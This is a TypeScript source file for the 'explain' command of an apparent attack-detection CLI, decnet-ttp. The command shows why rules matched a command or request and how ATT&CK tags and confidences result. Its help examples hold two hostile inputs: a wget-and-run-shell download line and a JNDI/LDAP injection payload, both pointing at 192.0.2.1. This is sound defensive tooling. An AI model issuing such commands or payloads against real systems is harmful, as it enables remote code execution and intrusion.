import { type Command, Option } from "commander";
import { isLifterMatch, type Payload } from "../../../rules/format/document.ts";
import type { LifterMatches } from "../../../rules/run/examples.ts";
import { Explainer, type RuleExplanation } from "../../../rules/run/explanation.ts";
import type { ExceptionHit, Exceptions } from "../../../rules/run/exceptions.ts";
import { RuleSet } from "../../../rules/run/rule_set.ts";
import { defaultField } from "../../../rules/format/field.ts";
import type { Rule } from "../../../rules/rule.ts";
import { KNOWN_SOURCE_KINDS, type SourceKind } from "../../../rules/source_kind.ts";
import { ceiling, effectiveState, type RuleState } from "../../../rules/state.ts";
import type { Context } from "../../context.ts";
import { jsonLine } from "../../../text/terminal.ts";
import { EXIT, Exit } from "../../exit.ts";
import { printExplained } from "./text.ts";
import { addExamples, COMMAND_GROUPS } from "../../help.ts";
import { openInputs } from "../../input.ts";
import { lifterMatches } from "../../rule_examples.ts";
import { selectRules } from "../../rule_selection.ts";
import { addRuleOptions, type RuleOptions, rulesInForce } from "../../rule_source.ts";
import { storedStates } from "../../rule_states.ts";

interface ExplainOptions extends RuleOptions {
  readonly json?: boolean;
  readonly all?: boolean;
  readonly rule?: readonly string[];
  readonly kind: SourceKind;
  readonly db?: string;
}

/** Below this confidence no tag is written (page 3 of the specification). */
const FLOOR = 0.3;

/** What becomes of one emission of a rule that matched. */
export interface ExplainedEmission {
  readonly tactic: string;
  readonly technique: string;
  readonly base: number;
  /** After the state's ceiling. */
  readonly confidence: number;
  readonly outcome: "written" | "excepted" | "rule_disabled" | "below_floor";
}

/** One rule, explained for one event. */
export interface ExplainedRule {
  readonly rule: Rule;
  readonly matched: boolean;
  /** Absent for a rule that a detector in code decides. */
  readonly explanation?: RuleExplanation;
  /** Why the match does not count. */
  readonly exception?: ExceptionHit;
  readonly state: RuleState;
  readonly emissions: readonly ExplainedEmission[];
}

/** Registers `explain`. */
export function registerExplain(program: Command, context: Context): void {
  const command = program.command("explain")
    .helpGroup(COMMAND_GROUPS.rules)
    .description("tell why each rule did or did not match a command")
    .argument("[command]", "the command's text, or - for lines from standard input", "-")
    .option(
      "--rule <id>",
      "only this rule, with * and ? for anything; may be given again",
      (id: string, before: readonly string[] = []) => [...before, id],
    )
    .option("--all", "also rules that cannot match because none of their words occurs")
    .addOption(
      new Option(
        "--kind <kind>",
        "what the text is, when it is no command; a JSON object is a payload",
      )
        .choices(KNOWN_SOURCE_KINDS).default("command"),
    )
    .option("--db <file>", "take the states of rules from this database")
    .option("--json", "print one JSON object a line of input")
    .action((text: string, options: ExplainOptions) => explain(text, options, context));
  addRuleOptions(command);
  addExamples(command, [
    ["decnet-ttp explain 'wget http://192.0.2.1/a; sh a'", "which rules match, and where?"],
    ["decnet-ttp explain --rule R0012 'echo wget'", "why does this rule not match?"],
    ["decnet-ttp explain --kind http_request '/?x=${jndi:ldap://192.0.2.1/a}'", "a request"],
  ]);
}

async function explain(text: string, options: ExplainOptions, context: Context): Promise<void> {
  const { pack, attack } = await rulesInForce(options, context);
  const ofKind = pack.rules.filter(({ document }) => document.applies_to.includes(options.kind));
  const rules = selectRules(ofKind, { ids: options.rule ?? [] });
  const states = storedStates(options.db, context);
  const byLifter = lifterMatches(pack.intel);
  const { exceptions } = RuleSet.compile(pack.rules, {
    allowBacktracking: options.allowBacktracking ?? false,
    exceptions: pack.exceptions ?? [],
  });
  const all = options.all === true || options.rule !== undefined;
  for await (const line of texts(text, context)) {
    const payload = payloadOf(line, options.kind);
    const explainer = new Explainer(options.kind, payload);
    const explained = rules.map((rule) =>
      explainRule(
        rule,
        options.kind,
        payload,
        explainer,
        byLifter,
        exceptions,
        states.get(rule.document.rule_id),
      )
    );
    if (options.json === true) context.terminal.out(jsonLine(json(line, explained)));
    else printExplained(context.terminal, attack, line, explained, all);
  }
}

async function* texts(text: string, context: Context): AsyncGenerator<string> {
  if (text !== "-") return yield text;
  for await (const { lines } of openInputs(["-"], "lines", context)) {
    for await (const line of lines) if (line.text.trim() !== "") yield line.text;
  }
}

/** A payload as JSON, or the text of the kind's default field. */
function payloadOf(text: string, kind: SourceKind): Payload {
  const field = defaultField(kind);
  if (kind !== "command" && text.trimStart().startsWith("{")) {
    try {
      return JSON.parse(text) as Payload;
    } catch {
      throw new Exit(EXIT.usage, "the payload is not JSON");
    }
  }
  if (field === undefined) {
    throw new Exit(EXIT.usage, `${kind} has no default field: give the payload as a JSON object`);
  }
  return { [field]: text };
}

function explainRule(
  rule: Rule,
  kind: SourceKind,
  payload: Payload,
  explainer: Explainer,
  byLifter: LifterMatches,
  exceptions: Exceptions,
  stored: RuleState | undefined,
): ExplainedRule {
  const explanation = explainer.explain(rule);
  const matched = explanation?.matched ?? byLifter(rule, kind, payload);
  const now = Date.now();
  const state = effectiveState(stored, now);
  const exception = matched ? exceptions.find(rule, kind, payload, now) : undefined;
  const emissions = matched
    ? rule.document.emits.map((emission): ExplainedEmission => {
      const confidence = ceiling(emission.confidence, state);
      return {
        tactic: emission.tactic,
        technique: emission.sub_technique_id ?? emission.technique_id,
        base: emission.confidence,
        confidence,
        outcome: exception !== undefined
          ? "excepted"
          : state.state === "disabled"
          ? "rule_disabled"
          : confidence < FLOOR
          ? "below_floor"
          : "written",
      };
    })
    : [];
  return {
    rule,
    matched,
    ...(explanation !== undefined && { explanation }),
    ...(exception !== undefined && { exception }),
    state,
    emissions,
  };
}

function json(input: string, explained: readonly ExplainedRule[]): unknown {
  return {
    input,
    rules: explained.map(({ rule, matched, explanation, exception, state, emissions }) => ({
      rule_id: rule.document.rule_id,
      name: rule.document.name,
      matched,
      ...(isLifterMatch(rule.document.match) && { decided_by: rule.document.match.kind }),
      ...explanation?.origin,
      ...(explanation?.missing !== undefined && { prefilter_missing: explanation.missing }),
      ...(explanation !== undefined && { groups: explanation.groups }),
      excepted_by: exception ?? null,
      state: state.state,
      emissions,
    })),
  };
}
